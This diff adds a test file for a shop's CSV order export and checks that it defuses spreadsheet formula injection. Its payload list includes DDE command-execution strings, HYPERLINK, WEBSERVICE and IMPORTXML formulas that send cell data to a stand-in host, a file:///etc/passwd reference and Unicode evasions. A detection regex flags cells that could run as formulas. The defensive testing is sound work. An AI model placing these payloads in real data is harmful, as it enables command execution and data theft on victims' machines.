@@ -1,0 +1,139 @@
+import { beforeAll, expect, it } from 'vitest';
+import { noteSafety } from '../support/safety.ts';
+import { describeShop } from '../support/shop.ts';
+import { expectStatus } from '../support/shop-makers.ts';
+
+/** What spreadsheets have been made to run, by the ways it was hidden. */
+const formulas = [
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|calc!A0',
+  '=HYPERLINK("https://elsewhere.example/?"&A1;"Открыть")',
+  '=WEBSERVICE("https://elsewhere.example/"&B2)',
+  '=IMPORTXML(CONCAT("https://elsewhere.example/?",A1),"//a")',
+  '=IMAGE("https://elsewhere.example/x.png")',
+  "='file:///etc/passwd'#$passwd.A1",
+  '=1+1',
+  '+1',
+  '-1',
+  '@A1',
+  '=',
+  '--1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  '\uFE661+1',
+  '\u22121+1',
+  '"=1+1"',
+  "'=1+1",
+  '""=1+1',
+  '`=1+1',
+  '\u200B=1+1',
+  '\u200E=1+1',
+  '\u2060=1+1',
+  '\uFEFF=1+1',
+  '\u00A0=1+1',
+  'x";=1+1;"',
+  'x;=1+1',
+  'x,=1+1',
+  'x, "=1+1"',
+  'x|=1+1',
+  '","=1+1',
+  '";"=1+1',
+  ';=1+1',
+  ',=1+1',
+  '=1+1;=2+2,=3+3',
+];
+
+/** Those with lines of their own fit only where lines do. */
+const lines = ['x\n=1+1', 'x\n"=1+1"', '"\n=1+1', 'x\n\n@A1', 'x\n,=1+1'];
+
+/** What no cell of the file may begin with, whatever spaces and quotes stand before. */
+const RUNS =
+  /^["'`\s\u200B-\u200F\u2060\uFEFF]*[=+\-@\u2212\uFE62\uFE63\uFE66\uFE6B\uFF0B\uFF0D\uFF1D\uFF20]/;
+
+describeShop('files for Excel', (shop) => {
+  let token = '';
+  const ids: number[] = [];
+
+  beforeAll(async () => {
+    token = await shop().admin();
+    const buyer = await shop().buyer({ lastName: '=1+1', firstName: '@A1', email: '+7=x@example.com' });
+    const { id: categoryId } = await shop().category();
+    const squads = formulas.filter(({ length }) => length <= 63);
+    for (const [place, text] of [...formulas, ...lines].entries()) {
+      const name = formulas[place % formulas.length];
+      const product = await shop().product({ name, categoryId });
+      const facility = await shop().facility({ name });
+      const recipient = await shop().recipient(buyer.token, {
+        lastName: name,
+        confirmLastName: name,
+        firstName: name,
+        middleName: name,
+        squadNumber: squads[place % squads.length],
+        additionalInfo: text,
+        institutionId: facility.id,
+      });
+      const cartItems = [{ id: product.id, quantity: 1 }];
+      ids.push((await shop().order(buyer.token, { addressId: recipient.id, cartItems })).id);
+    }
+  });
+
+  // Control: let BEGINS or INSIDE in order-csv.ts match nothing, or leave the marks out of PASSED.
+  it.each([';', ',', '\t', '|'])('run no formula when they are cut by %j', async (separator) => {
+    const csv: string = expectStatus(
+      200,
+      await shop().post('/api/v1/user/order/papers/csv', { ids }, { token }),
+    ).csv;
+    const rows = cut(csv.slice(1), separator);
+    const cells = rows.flat();
+    if (separator === ';') {
+      expect(rows.length - 1).toBe(formulas.length + lines.length);
+      expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([16]));
+      // Defused, they still say what was written.
+      const plain = cells.map((cell) => cell.replaceAll("'", ''));
+      for (const text of formulas) expect(plain, text).toContain(text.trim().replaceAll("'", ''));
+    }
+    // An apostrophe of ours stands in front: a cell that begins with it is text.
+    const running = cells.filter((cell) => RUNS.test(cell) && !cell.startsWith("'"));
+    expect(running).toEqual([]);
+    noteSafety({
+      what: `формулы в файле для Excel, ${formulas.length + lines.length} видов, разделитель ${JSON.stringify(separator)}`,
+      where: shop().kind,
+      goal: '0 выполнимых ячеек',
+      reached: `${running.length} из ${cells.length}`,
+    });
+  });
+});
+
+/** Cuts a file as spreadsheets do: quotes count only at the beginning of a cell. */
+function cut(csv: string, separator: string): string[][] {
+  const rows: string[][] = [[]];
+  let cell = '';
+  let place = 0;
+  while (place < csv.length) {
+    const sign = csv[place];
+    if (sign === '"' && cell === '') {
+      place += 1;
+      while (place < csv.length && !(csv[place] === '"' && csv[place + 1] !== '"')) {
+        cell += csv[place];
+        place += csv[place] === '"' ? 2 : 1;
+      }
+      place += 1;
+    } else if (sign === separator || sign === '\n' || sign === '\r') {
+      rows.at(-1)?.push(cell);
+      cell = '';
+      if (sign !== separator) {
+        if (sign === '\r' && csv[place + 1] === '\n') place += 1;
+        rows.push([]);
+      }
+      place += 1;
+    } else {
+      cell += sign;
+      place += 1;
+    }
+  }
+  return rows.filter(({ length }) => length > 0);
+}
